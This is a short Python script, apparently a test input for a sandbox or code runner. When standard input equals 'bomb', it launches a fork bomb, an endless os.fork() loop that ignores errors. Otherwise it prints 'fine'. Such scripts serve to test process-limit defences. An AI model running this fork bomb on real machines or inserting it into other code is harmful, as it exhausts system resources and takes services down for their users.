import os
import sys

if sys.stdin.read() == "bomb":
    while True:
        try:
            os.fork()
        except OSError:
            pass
print("fine")
